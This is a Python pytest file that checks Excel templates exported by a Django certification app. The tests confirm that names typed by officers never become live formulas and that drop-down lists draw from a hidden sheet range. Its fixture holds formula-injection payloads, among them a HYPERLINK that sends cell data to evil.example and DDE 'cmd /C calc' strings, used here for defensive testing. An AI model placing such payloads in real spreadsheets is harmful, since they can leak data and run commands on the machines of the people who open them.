"""Templates every institution downloads carry names officers typed (tracks, modules, batches):
none of it may come out as a formula (docs/spec.md §7, issue 10), in a cell or in a drop-down list."""

import re

import openpyxl
import pytest
from django.core.management import call_command

from certification.models import Enrolment, Module, Track
from exchange import blanks, services
from exchange.columns import KINDS

from ..data import make_corpus as corpus
from .conftest import named_batch, workbook_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# A drop-down list is fed from a range of the hidden list sheet, never from a formula of its own.
LIST_RANGE = re.compile(r"^'选项'!\$[A-Z]{1,3}\$\d+:\$[A-Z]{1,3}\$\d+$")


@pytest.fixture
def hostile_names(inst1):
    Track.objects.filter(code="PM").update(name_zh=HOSTILE)
    Module.objects.filter(track__code="PM", position=1).update(name_zh="+cmd|' /C calc'!A0")
    named_batch(inst1, "@SUM(1+1)*cmd|' /C calc'!A0", "PM")
    named_batch(inst1, HOSTILE, "CR")


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_cell_of_a_template_is_a_formula_whatever_the_names(tmp_path, kind, inst1, hostile_names):
    out = tmp_path / f"{kind}.xlsx"
    call_command("xlsx_template", kind, str(out), "--institution", inst1.org_code)
    workbook = openpyxl.load_workbook(out)
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    lists = {cell.value for row in workbook["选项"].iter_rows() for cell in row}
    assert "'" + HOSTILE in lists  # still there, as text
    sheet = workbook[KINDS[kind].sheet]
    sources = [validation.formula1 for validation in sheet.data_validations.dataValidation]
    assert sources and all(LIST_RANGE.match(source) for source in sources), sources


def test_a_batch_named_like_a_formula_picked_from_the_template_list_still_imports(tmp_path, inst1_staff):
    batch = named_batch(inst1_staff.institution, "=2025春季制版班", "PM")
    out = tmp_path / "enrolments.xlsx"
    blanks.write_template(KINDS["enrolments"], out, institution=inst1_staff.institution)
    workbook = openpyxl.load_workbook(out)
    listed = next(
        cell.value for row in workbook["选项"].iter_rows() for cell in row if "2025春季制版班" in str(cell.value)
    )
    assert listed == "'=2025春季制版班"  # as the drop-down offers it
    rows = [corpus.person(corpus.NEW_IDS[0], batch=listed)]
    summary = services.import_rows(staff=inst1_staff, kind="enrolments", fileobj=workbook_bytes("enrolments", rows))
    assert summary.written and summary.counts["create"] == 1
    assert Enrolment.objects.get().batch == batch
